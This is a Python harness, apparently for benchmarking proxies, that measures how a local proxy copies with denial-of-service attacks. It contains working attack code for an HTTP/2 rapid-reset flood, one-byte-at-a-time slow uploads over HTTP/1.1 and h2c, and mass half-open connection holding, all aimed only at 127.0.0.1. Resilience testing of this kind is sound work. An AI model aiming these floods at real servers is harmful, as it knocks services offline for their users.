#!/usr/bin/env python3
"""One attack against one proxy, with a normal client alongside; prints one JSON object.

  attack.py rapid-reset --port P --origin-stats S --seconds 30 [--proxy-pid PID ...]
  attack.py slow-upload --port P --origin-stats S --seconds 40 [--uploaders 500] ...
  attack.py big-uploads ... --body-bytes 2000000          (slow-upload with big bodies)
  attack.py byte-bodies ... [--byte-rate 10]              (HTTP/1.1, a byte per segment)
  attack.py byte-bodies-h2 ... [--byte-rate 10]           (h2c, a byte per DATA frame)
  attack.py admin-hold --port ADMIN --path /healthz --seconds 40 [--clients 500] ...

rapid-reset: one h2c (prior knowledge) connection sends, every --interval-ms, bursts of --burst x
(HEADERS with END_STREAM for GET /, then RST_STREAM CANCEL on that stream), reading and
discarding frames (SETTINGS and PING are acknowledged, the connection window is topped up).
When the proxy closes the connection or sends GOAWAY, the client reconnects at once and carries
on. Counted: streams sent (each opened on the wire), those of them the proxy owned to by
GOAWAY's last stream id (all on a connection that ended without GOAWAY), responses and RST_STREAMs from the proxy, and every time the proxy
cut the client off, by GOAWAY error code ("eof" / "reset": closed without GOAWAY).

slow-upload, big-uploads, byte-bodies: --uploaders HTTP/1.1 clients (connected over the first
second) each send POST /upload with Content-Length: --body-bytes, then the body one byte per
send (TCP_NODELAY: one TCP segment each), --byte-rate bytes a second (1 for slow-upload and
big-uploads, 10 for byte-bodies unless given). byte-bodies-h2: the same over h2c, HEADERS with
content-length, then one DATA frame of one byte per send (flow control respected). When the
proxy answers or closes (h2: GOAWAY refusing the stream, RST_STREAM, or a response), the client
records how and reconnects at once.

admin-hold: --clients connections each send half a request head for GET --path (no blank line)
and stop, and --clients more each send one whole keep-alive GET --path, read the answer and sit
idle; nobody reconnects. Counted at each of --checkpoints seconds and at the end: how many of
each kind are still open, and the proxy's RSS; how and when the proxy closed the others.

All: a normal client sends one GET --path every --normal-interval-ms, each on a new connection
of its own (h2c prior knowledge for rapid-reset and byte-bodies-h2, HTTP/1.1 otherwise;
--normal-proto to choose), open loop: a slow answer does not delay the next request. A request
succeeds on a 200 within --normal-timeout seconds. The origin's counters (scripts/edge/origin.py)
and the proxy's RSS (VmRSS of --proxy-pid and its descendants) are sampled every --sample-ms;
the RSS is read at the start, at the end of the attack (clients still connected) and
--settle-seconds after every client left; the attack ends early if the RSS passes --max-rss-mib.
The proxy's CPU time (utime+stime of the same processes) is read before and after. Only
127.0.0.1 is contacted.
"""
import argparse
import asyncio
import json
import math
import os
import socket
import struct
import sys
import time

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
CANCEL = 0x8
ERROR_NAMES = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR",
               0x3: "FLOW_CONTROL_ERROR", 0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED",
               0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM", 0x8: "CANCEL",
               0x9: "COMPRESSION_ERROR", 0xa: "CONNECT_ERROR", 0xb: "ENHANCE_YOUR_CALM",
               0xc: "INADEQUATE_SECURITY", 0xd: "HTTP_1_1_REQUIRED"}


def error_name(code):
    return f"{ERROR_NAMES.get(code, 'UNKNOWN')} (0x{code:x})"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# Our SETTINGS: ENABLE_PUSH 0, INITIAL_WINDOW_SIZE 1 MiB
CLIENT_SETTINGS = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x2, 0) + struct.pack(">HI", 0x4, 1 << 20))
SETTINGS_ACK = frame(SETTINGS, ACK, 0)
# the connection window, raised by 1 GiB at the start so DATA never stalls on it
WINDOW_BOOST = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30))


def hpack_get(authority: bytes, path: bytes = b"/") -> bytes:
    """GET http://authority/path: :method GET, :scheme http (static table), :path and
    :authority as literals without indexing (name from the static table)."""
    def literal(name_index, value):
        assert len(value) < 127
        return bytes([name_index]) + bytes([len(value)]) + value
    block = b"\x82\x86"  # :method GET, :scheme http
    block += b"\x84" if path == b"/" else literal(4, path)
    block += literal(1, authority)
    return block


# Huffman codes (RFC 7541 appendix B) of the characters a status code is made of.
HUFFMAN_DIGITS = {(0x0, 5): "0", (0x1, 5): "1", (0x2, 5): "2", (0x19, 6): "3", (0x1a, 6): "4",
                  (0x1b, 6): "5", (0x1c, 6): "6", (0x1d, 6): "7", (0x1e, 6): "8", (0x1f, 6): "9"}
STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}


def read_int(data, pos, prefix):
    mask = (1 << prefix) - 1
    value = data[pos] & mask
    pos += 1
    if value < mask:
        return value, pos
    shift = 0
    while True:
        b = data[pos]
        pos += 1
        value += (b & 0x7f) << shift
        shift += 7
        if not b & 0x80:
            return value, pos


def decode_status(block: bytes):
    """The :status of a response header block: its first field (pseudo-headers come first),
    indexed from the static table or a literal with :status's name, plain or Huffman coded."""
    if not block:
        return None
    pos = 0
    while block[pos] & 0xe0 == 0x20:  # dynamic table size update
        _, pos = read_int(block, pos, 5)
    b = block[pos]
    if b & 0x80:
        index, _ = read_int(block, pos, 7)
        return STATIC_STATUS.get(index)
    prefix = 6 if b & 0x40 else 4
    index, pos = read_int(block, pos, prefix)
    if index not in range(8, 15):
        return None
    huffman = block[pos] & 0x80
    length, pos = read_int(block, pos, 7)
    raw = block[pos:pos + length]
    if not huffman:
        return int(raw)
    bits = "".join(f"{x:08b}" for x in raw)
    out, code, n = "", 0, 0
    for bit in bits:
        code, n = (code << 1) | int(bit), n + 1
        if (code, n) in HUFFMAN_DIGITS:
            out += HUFFMAN_DIGITS[(code, n)]
            code, n = 0, 0
            if len(out) == 3:
                break
    return int(out) if len(out) == 3 else None


async def read_frame(reader):
    head = await reader.readexactly(9)
    length = int.from_bytes(head[:3], "big")
    kind, flags = head[3], head[4]
    stream = int.from_bytes(head[5:9], "big") & 0x7fffffff
    payload = await reader.readexactly(length) if length else b""
    return kind, flags, stream, payload


def header_block(flags, payload):
    pos, end = 0, len(payload)
    if flags & PADDED:
        end -= payload[0]
        pos = 1
    if flags & PRIORITY_FLAG:
        pos += 5
    return payload[pos:end]


def close_writer(writer):
    try:
        writer.transport.abort()
    except Exception:
        pass


# ------------------------------------------------------------------------------------------
# The normal client

async def normal_h2(port, authority, path=b"/"):
    reader, writer = await asyncio.open_connection(HOST, port)
    try:
        writer.write(PREFACE + CLIENT_SETTINGS + WINDOW_BOOST +
                     frame(HEADERS, END_STREAM | END_HEADERS, 1, hpack_get(authority, path)))
        await writer.drain()
        status = None
        while True:
            kind, flags, stream, payload = await read_frame(reader)
            if kind == SETTINGS and not flags & ACK:
                writer.write(SETTINGS_ACK)
            elif kind == PING and not flags & ACK:
                writer.write(frame(PING, ACK, 0, payload))
            elif kind == GOAWAY and stream == 0:
                last, code = struct.unpack(">II", payload[:8])
                if last & 0x7fffffff < 1:
                    return f"goaway {error_name(code)}"
            elif kind == RST_STREAM and stream == 1:
                return f"rst {error_name(struct.unpack('>I', payload)[0])}"
            elif kind == HEADERS and stream == 1:
                if status is None:
                    status = decode_status(header_block(flags, payload))
                if flags & END_STREAM:
                    return status
            elif kind == DATA and stream == 1 and flags & END_STREAM:
                return status
    finally:
        try:
            writer.write(frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)))
        except Exception:
            pass
        close_writer(writer)


async def normal_h1(port, authority, path=b"/"):
    reader, writer = await asyncio.open_connection(HOST, port)
    try:
        writer.write(b"GET " + path + b" HTTP/1.1\r\nHost: " + authority + b"\r\nConnection: close\r\n\r\n")
        await writer.drain()
        head = await reader.readuntil(b"\r\n\r\n")
        status = int(head.split(b" ", 2)[1])
        length = None
        for line in head.split(b"\r\n")[1:]:
            if line.lower().startswith(b"content-length:"):
                length = int(line.split(b":", 1)[1])
        if length is not None:
            await reader.readexactly(length)
        else:
            await reader.read()
        return status
    finally:
        close_writer(writer)


async def normal_client(args, deadline, results):
    authority = f"{HOST}:{args.port}".encode()
    one = normal_h2 if args.normal_proto == "h2c" else normal_h1
    tasks = []

    async def request():
        start = time.monotonic()
        try:
            outcome = await asyncio.wait_for(one(args.port, authority, args.path.encode()),
                                             args.normal_timeout)
        except asyncio.TimeoutError:
            outcome = "timeout"
        except (ConnectionRefusedError,) as error:
            outcome = "refused"
        except (asyncio.IncompleteReadError, ConnectionError, OSError) as error:
            outcome = type(error).__name__
        except Exception as error:  # a malformed answer
            outcome = f"error {type(error).__name__}"
        results.append((outcome, time.monotonic() - start))

    next_at = time.monotonic()
    while next_at < deadline.at:
        tasks.append(asyncio.create_task(request()))
        next_at += args.normal_interval_ms / 1000
        await asyncio.sleep(max(0.0, next_at - time.monotonic()))
    await asyncio.gather(*tasks)


def summarize_normal(results):
    latencies = sorted(t for outcome, t in results if outcome == 200)
    outcomes = {}
    for outcome, _ in results:
        outcomes[str(outcome)] = outcomes.get(str(outcome), 0) + 1

    def pct(p):  # nearest rank
        if not latencies:
            return None
        return round(latencies[max(0, math.ceil(len(latencies) * p) - 1)] * 1000, 1)
    return {"requests": len(results), "ok": len(latencies), "outcomes": outcomes,
            "p50_ms": pct(0.50), "p99_ms": pct(0.99),
            "max_ms": round(latencies[-1] * 1000, 1) if latencies else None}


# ------------------------------------------------------------------------------------------
# The run's deadline, origin counters, proxy CPU and memory

class Deadline:
    """When the attack ends: --seconds after the start, or earlier when the proxy's memory
    passes --max-rss-mib (the sampler moves it)."""

    def __init__(self, at):
        self.at = at

    def passed(self):
        return time.monotonic() >= self.at

    def left(self):
        return max(0.0, self.at - time.monotonic())

    async def sleep(self, seconds):
        """Sleeps for seconds, or until the deadline if that comes first (even if moved)."""
        until = time.monotonic() + seconds
        while not self.passed() and time.monotonic() < until:
            await asyncio.sleep(min(0.25, until - time.monotonic(), self.left()))


async def origin_stats(port, command="stats"):
    reader, writer = await asyncio.open_connection(HOST, port)
    try:
        writer.write(command.encode() + b"\n")
        await writer.drain()
        return json.loads(await reader.readline())
    finally:
        close_writer(writer)


async def sampler(args, deadline, samples, memory, run_state):
    """Every --sample-ms until the deadline: the origin's counters and the proxy's RSS; one
    more RSS reading as the deadline passes (the memory "at the end", clients still there)."""
    while not deadline.passed():
        try:
            samples.append(await origin_stats(args.origin_stats))
        except OSError:
            pass
        rss = rss_kib(args.proxy_pid)
        memory["peak_kib"] = max(memory["peak_kib"], rss)
        if args.max_rss_mib and rss > args.max_rss_mib * 1024 and not deadline.passed():
            run_state["stopped_early"] = f"proxy RSS passed {args.max_rss_mib} MiB"
            run_state["stopped_after_s"] = round(time.monotonic() - run_state["start"], 2)
            deadline.at = time.monotonic()
            break
        await asyncio.sleep(min(args.sample_ms / 1000, deadline.left()))
    memory["end_kib"] = rss_kib(args.proxy_pid)
    memory["peak_kib"] = max(memory["peak_kib"], memory["end_kib"])


def tree(pid):
    pids = [pid]
    try:
        for task in os.listdir(f"/proc/{pid}/task"):
            with open(f"/proc/{pid}/task/{task}/children") as f:
                for child in f.read().split():
                    pids += tree(int(child))
    except OSError:
        pass
    return pids


def cpu_seconds(pids):
    total = 0
    for root in pids:
        for pid in tree(root):
            try:
                with open(f"/proc/{pid}/stat") as f:
                    fields = f.read().rsplit(")", 1)[1].split()
                total += int(fields[11]) + int(fields[12])
            except OSError:
                pass
    return total / os.sysconf("SC_CLK_TCK")


def rss_kib(pids):
    """Resident memory of --proxy-pid and its descendants (VmRSS summed: nginx's master and
    worker; pages they share count twice, a constant that cancels out of any growth)."""
    total = 0
    for root in pids:
        for pid in tree(root):
            try:
                with open(f"/proc/{pid}/status") as f:
                    for line in f:
                        if line.startswith("VmRSS:"):
                            total += int(line.split()[1])
                            break
            except OSError:
                pass
    return total


# ------------------------------------------------------------------------------------------
# Rapid reset

async def rapid_reset(args, deadline, out):
    authority = f"{HOST}:{args.port}".encode()
    block = hpack_get(authority)
    cutoffs = {}
    totals = {"connections": 0, "connect_failures": 0, "streams_sent": 0, "streams_opened": 0,
              "responses": 0, "server_resets": 0, "goaways": 0}
    server_reset_codes = {}
    first_goaway_at = None
    goaway_samples = []  # GOAWAY's last stream id against the highest stream sent, first few
    start = time.monotonic()

    while not deadline.passed():
        try:
            reader, writer = await asyncio.open_connection(HOST, args.port)
        except OSError:
            totals["connect_failures"] += 1
            await asyncio.sleep(0.01)
            continue
        totals["connections"] += 1
        conn = {"sent": 0, "last_id": 0, "goaway": None, "ended": None}
        done = asyncio.Event()

        async def read_loop():
            try:
                while True:
                    kind, flags, stream, payload = await read_frame(reader)
                    if kind == SETTINGS and not flags & ACK:
                        writer.write(SETTINGS_ACK)
                    elif kind == PING and not flags & ACK:
                        writer.write(frame(PING, ACK, 0, payload))
                    elif kind == HEADERS and stream:
                        totals["responses"] += 1
                    elif kind == RST_STREAM:
                        totals["server_resets"] += 1
                        code = error_name(struct.unpack(">I", payload)[0])
                        server_reset_codes[code] = server_reset_codes.get(code, 0) + 1
                    elif kind == GOAWAY:
                        last, code = struct.unpack(">II", payload[:8])
                        conn["goaway"] = (last & 0x7fffffff, code)
                        # an attacker does not wait for the close: it reconnects at once
                        debug = payload[8:].decode("ascii", "replace")
                        conn["ended"] = f"GOAWAY {error_name(code)}" + (f' "{debug}"' if debug else "")
                        return
            except asyncio.IncompleteReadError:
                conn["ended"] = "closed without GOAWAY (EOF)"
            except (ConnectionError, OSError):
                conn["ended"] = "closed without GOAWAY (reset)"
            finally:
                done.set()

        async def write_loop():
            stream = 1
            try:
                writer.write(PREFACE + CLIENT_SETTINGS + WINDOW_BOOST)
                await writer.drain()
                next_at = time.monotonic()
                while not done.is_set() and not deadline.passed():
                    burst = bytearray()
                    for _ in range(args.burst):
                        burst += frame(HEADERS, END_STREAM | END_HEADERS, stream, block)
                        burst += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                        stream += 2
                    writer.write(bytes(burst))
                    conn["sent"] += args.burst
                    conn["last_id"] = stream - 2
                    await writer.drain()
                    next_at = max(next_at + args.interval_ms / 1000, time.monotonic())
                    try:
                        await asyncio.wait_for(done.wait(), max(0.0, next_at - time.monotonic()))
                    except asyncio.TimeoutError:
                        pass
            except (ConnectionError, OSError):
                pass

        reading = asyncio.create_task(read_loop())
        await write_loop()
        if not done.is_set():  # the run is over
            reading.cancel()
        try:
            await reading
        except asyncio.CancelledError:
            pass
        close_writer(writer)
        totals["streams_sent"] += conn["sent"]
        if conn["goaway"] is not None:
            last, code = conn["goaway"]
            totals["goaways"] += 1
            totals["streams_opened"] += min(conn["sent"], (last + 1) // 2)
            if len(goaway_samples) < 5:
                goaway_samples.append({"last_stream_id": last, "highest_sent": conn["last_id"]})
            if first_goaway_at is None:
                first_goaway_at = round(time.monotonic() - start, 3)
        else:
            totals["streams_opened"] += conn["sent"]
        if conn["ended"] is not None and not deadline.passed():
            cutoffs[conn["ended"]] = cutoffs.get(conn["ended"], 0) + 1
    out.update(totals)
    out["cutoffs"] = cutoffs
    out["server_reset_codes"] = server_reset_codes
    out["first_goaway_after_s"] = first_goaway_at
    out["goaway_samples"] = goaway_samples


# ------------------------------------------------------------------------------------------
# Slow uploads, big uploads, bodies a byte per segment (HTTP/1.1)

def nodelay(writer):
    """One send, one TCP segment: asyncio sets TCP_NODELAY already; say so explicitly."""
    sock = writer.get_extra_info("socket")
    if sock is not None:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)


def next_send(next_at, interval):
    """When the next byte is due: on schedule, catching up (one send a byte, each its own
    segment) when behind, but never by more than a second's worth."""
    now = time.monotonic()
    return max(next_at + interval, now - 1.0)


async def paced_wait(next_at, deadline, event):
    """Waits until next_at (or the deadline), returning early when event is set; when next_at
    has passed, only lets the other clients run."""
    wait = min(next_at - time.monotonic(), deadline.left())
    if wait <= 0 or event.is_set():
        await asyncio.sleep(0)
        return
    try:
        await asyncio.wait_for(event.wait(), wait)
    except asyncio.TimeoutError:
        pass


async def slow_uploads(args, deadline, out):
    authority = f"{HOST}:{args.port}".encode()
    head = (b"POST /upload HTTP/1.1\r\nHost: " + authority +
            b"\r\nContent-Type: application/octet-stream\r\nContent-Length: " +
            str(args.body_bytes).encode() + b"\r\n\r\n")
    interval = 1 / args.byte_rate
    stats = {"connections": 0, "connect_failures": 0, "bytes_sent": 0, "completed_bodies": 0}
    cutoffs = {}
    connected_now = [0]
    most_connected = [0]

    def cut(reason):
        cutoffs[reason] = cutoffs.get(reason, 0) + 1

    async def uploader(index):
        await asyncio.sleep(index / args.uploaders)  # spread the connects over the first second
        while not deadline.passed():
            try:
                reader, writer = await asyncio.open_connection(HOST, args.port)
            except OSError:
                stats["connect_failures"] += 1
                await asyncio.sleep(0.05)
                continue
            nodelay(writer)
            stats["connections"] += 1
            connected_now[0] += 1
            most_connected[0] = max(most_connected[0], connected_now[0])
            answered = asyncio.Event()
            reason = [None]

            async def read_answer():
                try:
                    data = await reader.read(65536)
                    if data.startswith(b"HTTP/1."):
                        reason[0] = "answered " + data.split(b" ", 2)[1].decode(errors="replace")
                    elif data:
                        reason[0] = "garbage"
                    else:
                        reason[0] = "closed (EOF)"
                except (ConnectionError, OSError):
                    reason[0] = "closed (reset)"
                answered.set()

            reading = asyncio.create_task(read_answer())
            try:
                writer.write(head)
                await writer.drain()
                sent = 0
                next_at = time.monotonic()
                while not deadline.passed() and not answered.is_set():
                    writer.write(b"x")  # one byte, one segment
                    await writer.drain()
                    sent += 1
                    stats["bytes_sent"] += 1
                    if sent >= args.body_bytes:
                        stats["completed_bodies"] += 1
                        break
                    next_at = next_send(next_at, interval)
                    await paced_wait(next_at, deadline, answered)
            except (ConnectionError, OSError):
                pass
            if not deadline.passed():
                try:
                    await asyncio.wait_for(answered.wait(), 0.5)
                except asyncio.TimeoutError:
                    pass
            if answered.is_set() and not deadline.passed():
                cut(reason[0])
            reading.cancel()
            close_writer(writer)
            connected_now[0] -= 1

    await asyncio.gather(*(uploader(i) for i in range(args.uploaders)))
    out.update(stats)
    out["most_connected_at_once"] = most_connected[0]
    out["cutoffs"] = cutoffs


# ------------------------------------------------------------------------------------------
# Bodies a byte per DATA frame (h2c)

def hpack_int(value, prefix, first_bits=0):
    mask = (1 << prefix) - 1
    if value < mask:
        return bytes([first_bits | value])
    out = bytearray([first_bits | mask])
    value -= mask
    while value >= 0x80:
        out.append((value & 0x7f) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_post(authority: bytes, path: bytes, length: int) -> bytes:
    """POST http://authority/path with content-length: :method POST and :scheme http from the
    static table, the rest literals without indexing (names from the static table)."""
    def literal(name_index, value):
        return hpack_int(name_index, 4) + hpack_int(len(value), 7) + value
    return (b"\x83\x86" + literal(4, path) + literal(1, authority) +
            literal(28, str(length).encode()))  # 28: content-length


async def byte_bodies_h2(args, deadline, out):
    authority = f"{HOST}:{args.port}".encode()
    block = hpack_post(authority, b"/upload", args.body_bytes)
    interval = 1 / args.byte_rate
    stats = {"connections": 0, "connect_failures": 0, "bytes_sent": 0, "completed_bodies": 0,
             "flow_control_stalls": 0}
    cutoffs = {}
    connected_now = [0]
    most_connected = [0]

    def cut(reason):
        cutoffs[reason] = cutoffs.get(reason, 0) + 1

    async def uploader(index):
        await asyncio.sleep(index / args.uploaders)  # spread the connects over the first second
        while not deadline.passed():
            try:
                reader, writer = await asyncio.open_connection(HOST, args.port)
            except OSError:
                stats["connect_failures"] += 1
                await asyncio.sleep(0.05)
                continue
            nodelay(writer)
            stats["connections"] += 1
            connected_now[0] += 1
            most_connected[0] = max(most_connected[0], connected_now[0])
            # the proxy's flow-control windows for what we send
            window = {"conn": 65535, "stream": 65535, "initial": 65535}
            window_grew = asyncio.Event()
            ended = asyncio.Event()
            reason = [None]

            async def read_loop():
                try:
                    while True:
                        kind, flags, stream, payload = await read_frame(reader)
                        if kind == SETTINGS and not flags & ACK:
                            for i in range(0, len(payload) - 5, 6):
                                ident, value = struct.unpack(">HI", payload[i:i + 6])
                                if ident == 0x4:  # INITIAL_WINDOW_SIZE
                                    window["stream"] += value - window["initial"]
                                    window["initial"] = value
                            writer.write(SETTINGS_ACK)
                            window_grew.set()
                        elif kind == PING and not flags & ACK:
                            writer.write(frame(PING, ACK, 0, payload))
                        elif kind == WINDOW_UPDATE:
                            increment = struct.unpack(">I", payload[:4])[0] & 0x7fffffff
                            if stream == 0:
                                window["conn"] += increment
                            elif stream == 1:
                                window["stream"] += increment
                            window_grew.set()
                        elif kind == GOAWAY:
                            last, code = struct.unpack(">II", payload[:8])
                            if last & 0x7fffffff < 1:  # our stream is not going to be served
                                reason[0] = f"GOAWAY {error_name(code)}"
                                return
                        elif kind == RST_STREAM and stream == 1:
                            reason[0] = f"RST_STREAM {error_name(struct.unpack('>I', payload)[0])}"
                            return
                        elif kind == HEADERS and stream == 1:
                            reason[0] = f"answered {decode_status(header_block(flags, payload))}"
                            return
                except asyncio.IncompleteReadError:
                    reason[0] = "closed (EOF)"
                except (ConnectionError, OSError):
                    reason[0] = "closed (reset)"
                finally:
                    ended.set()

            reading = asyncio.create_task(read_loop())
            try:
                writer.write(PREFACE + CLIENT_SETTINGS + WINDOW_BOOST +
                             frame(HEADERS, END_HEADERS, 1, block))
                await writer.drain()
                sent = 0
                next_at = time.monotonic()
                while not deadline.passed() and not ended.is_set():
                    if min(window["conn"], window["stream"]) <= 0:
                        stats["flow_control_stalls"] += 1
                        window_grew.clear()
                        await paced_wait(time.monotonic() + 1.0, deadline, window_grew)
                        continue
                    last = sent + 1 >= args.body_bytes
                    writer.write(frame(DATA, END_STREAM if last else 0, 1, b"x"))  # one frame, one segment
                    await writer.drain()
                    window["conn"] -= 1
                    window["stream"] -= 1
                    sent += 1
                    stats["bytes_sent"] += 1
                    if last:
                        stats["completed_bodies"] += 1
                        break
                    next_at = next_send(next_at, interval)
                    await paced_wait(next_at, deadline, ended)
            except (ConnectionError, OSError):
                pass
            if not deadline.passed():
                try:
                    await asyncio.wait_for(ended.wait(), 0.5)
                except asyncio.TimeoutError:
                    pass
            if ended.is_set() and not deadline.passed():
                cut(reason[0])
            reading.cancel()
            close_writer(writer)
            connected_now[0] -= 1

    await asyncio.gather(*(uploader(i) for i in range(args.uploaders)))
    out.update(stats)
    out["most_connected_at_once"] = most_connected[0]
    out["cutoffs"] = cutoffs


# ------------------------------------------------------------------------------------------
# Connections held on the admin (management) port

async def admin_hold(args, deadline, out):
    """--clients connections send half a request head (no blank line) and stop; --clients more
    send one whole keep-alive GET --path, read the answer and sit idle. Nobody reconnects: the
    counts show how long the proxy keeps them."""
    authority = f"{HOST}:{args.port}".encode()
    request = b"GET " + args.path.encode() + b" HTTP/1.1\r\nHost: " + authority + b"\r\n"
    start = time.monotonic()
    conns = []

    async def hold(kind, index):
        await asyncio.sleep(index / (2 * args.clients))  # spread the connects over the first second
        c = {"kind": kind, "open": False, "connect": None, "status": None, "ended": None,
             "closed_after": None}
        conns.append(c)
        try:
            reader, writer = await asyncio.wait_for(asyncio.open_connection(HOST, args.port), 5.0)
        except asyncio.TimeoutError:
            c["connect"] = "connect timed out (5 s)"
            return
        except OSError as error:
            c["connect"] = f"connect failed ({type(error).__name__})"
            return
        c["open"] = True
        try:
            writer.write(request if kind == "half" else request + b"\r\n")
            await writer.drain()
            while True:
                data = await reader.read(65536)
                if not data:
                    c["ended"] = "closed (EOF)"
                    break
                if c["status"] is None and data.startswith(b"HTTP/1."):
                    c["status"] = data.split(b" ", 2)[1].decode(errors="replace")
        except (ConnectionError, OSError):
            c["ended"] = "closed (reset)"
        finally:
            if c["ended"] is not None:  # the proxy closed it; else the run is over
                c["open"] = False
                c["closed_after"] = time.monotonic() - start
            close_writer(writer)

    def open_now(rss=None):
        counts = {kind: sum(1 for c in conns if c["kind"] == kind and c["open"])
                  for kind in ("half", "idle")}
        counts["rss_kib"] = rss_kib(args.proxy_pid) if rss is None else rss
        return counts

    tasks = [asyncio.create_task(hold(kind, 2 * i + (kind == "idle")))
             for i in range(args.clients) for kind in ("half", "idle")]
    open_at = []
    for checkpoint in sorted(float(x) for x in args.checkpoints.split(",") if x.strip()):
        if checkpoint >= args.seconds:
            continue
        await deadline.sleep(start + checkpoint - time.monotonic())
        if deadline.passed():
            break
        open_at.append({"after_s": checkpoint, **open_now()})
    while not deadline.passed():
        await asyncio.sleep(min(0.25, deadline.left()))
    open_at.append({"after_s": round(time.monotonic() - start, 1), "end": True, **open_now()})
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)

    def summary(kind):
        mine = [c for c in conns if c["kind"] == kind]
        closed = sorted(c["closed_after"] for c in mine if c["closed_after"] is not None)
        statuses, ends, failures = {}, {}, {}
        for c in mine:
            if c["status"] is not None:
                statuses[c["status"]] = statuses.get(c["status"], 0) + 1
            if c["ended"] is not None:
                how = (f"answered {c['status']}, then " if c["status"] and kind == "half" else "") + c["ended"]
                ends[how] = ends.get(how, 0) + 1
            if c["connect"] is not None:
                failures[c["connect"]] = failures.get(c["connect"], 0) + 1
        return {"connected": sum(1 for c in mine if c["connect"] is None),
                "connect_failures": failures, "answers": statuses, "closed_by_proxy": ends,
                "closed_after_s": None if not closed else {
                    "min": round(closed[0], 1), "median": round(closed[len(closed) // 2], 1),
                    "max": round(closed[-1], 1)}}
    out["half"] = summary("half")
    out["idle"] = summary("idle")
    out["open_at"] = open_at


# ------------------------------------------------------------------------------------------

RUNNERS = {"rapid-reset": rapid_reset, "slow-upload": slow_uploads, "big-uploads": slow_uploads,
           "byte-bodies": slow_uploads, "byte-bodies-h2": byte_bodies_h2, "admin-hold": admin_hold}


async def run(args):
    baseline = await origin_stats(args.origin_stats, "reset")
    cpu_before = cpu_seconds(args.proxy_pid)
    rss_start = rss_kib(args.proxy_pid)
    memory = {"start_kib": rss_start, "peak_kib": rss_start}
    start = time.monotonic()
    deadline = Deadline(start + args.seconds)
    run_state = {"start": start, "stopped_early": None, "stopped_after_s": None}
    normal, samples, attack = [], [], {}
    await asyncio.gather(RUNNERS[args.attack](args, deadline, attack),
                         normal_client(args, deadline, normal),
                         sampler(args, deadline, samples, memory, run_state))
    elapsed = time.monotonic() - start
    cpu = cpu_seconds(args.proxy_pid) - cpu_before
    final = await origin_stats(args.origin_stats)
    # every client is gone: does the proxy give the memory (and the upstream connections) back?
    await asyncio.sleep(args.settle_seconds)
    memory["after_kib"] = rss_kib(args.proxy_pid)
    memory["settle_s"] = args.settle_seconds
    settled = await origin_stats(args.origin_stats)
    # normal client requests reach the origin too; the stats reads do not (other port)
    result = {
        "attack": args.attack, "proxy": args.label, "seconds": args.seconds,
        "params": {"burst": args.burst, "interval_ms": args.interval_ms,
                   "uploaders": args.uploaders, "body_bytes": args.body_bytes,
                   "byte_rate": args.byte_rate, "clients": args.clients, "path": args.path,
                   "normal_proto": args.normal_proto,
                   "normal_interval_ms": args.normal_interval_ms},
        "elapsed_s": round(elapsed, 2),
        "stopped_early": run_state["stopped_early"],
        "stopped_after_s": run_state["stopped_after_s"],
        "origin": {
            "accepted": final["accepted"] - baseline["accepted"],
            "peak_open": final["peak"],
            "peak_open_sampled": max((s["open"] for s in samples), default=None),
            "open_at_start": baseline["open"],
            "open_at_end": final["open"],
            "open_after_settle": settled["open"],
            "requests": final["requests"] - baseline["requests"],
            "aborted": final["aborted"] - baseline["aborted"],
        },
        "memory": memory,
        "proxy_cpu_s": round(cpu, 2),
        "proxy_cpu_pct": round(cpu / elapsed * 100, 1),
        "attack_client": attack,
        "normal": summarize_normal(normal),
    }
    print(json.dumps(result), flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=list(RUNNERS))
    parser.add_argument("--port", type=int, required=True, help="the proxy's port")
    parser.add_argument("--origin-stats", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--label", default="proxy")
    parser.add_argument("--proxy-pid", type=int, action="append", default=[])
    parser.add_argument("--burst", type=int, default=19)
    parser.add_argument("--interval-ms", type=float, default=5.0)
    parser.add_argument("--uploaders", type=int, default=500)
    parser.add_argument("--body-bytes", type=int, default=100000)
    parser.add_argument("--byte-rate", type=float,
                        help="body bytes a second per uploader (default 10 for byte-bodies*, else 1)")
    parser.add_argument("--clients", type=int, default=500,
                        help="admin-hold: connections of each kind")
    parser.add_argument("--checkpoints", default="10,35,65",
                        help="admin-hold: seconds at which open connections are counted")
    parser.add_argument("--path", default="/", help="what the normal client (and admin-hold) GETs")
    parser.add_argument("--normal-proto", choices=["h2c", "http1"])
    parser.add_argument("--normal-interval-ms", type=float, default=100.0)
    parser.add_argument("--normal-timeout", type=float, default=5.0)
    parser.add_argument("--sample-ms", type=float, default=250.0)
    parser.add_argument("--settle-seconds", type=float, default=5.0,
                        help="after the clients left, wait this long and read the memory again")
    parser.add_argument("--max-rss-mib", type=float, default=4096.0,
                        help="end the attack early when the proxy's RSS passes this (0: never)")
    args = parser.parse_args()
    if args.normal_proto is None:
        args.normal_proto = "h2c" if args.attack in ("rapid-reset", "byte-bodies-h2") else "http1"
    if args.byte_rate is None:
        args.byte_rate = 10.0 if args.attack.startswith("byte-bodies") else 1.0
    if args.byte_rate <= 0:
        parser.error("--byte-rate must be above 0")
    asyncio.run(run(args))


if __name__ == "__main__":
    main()
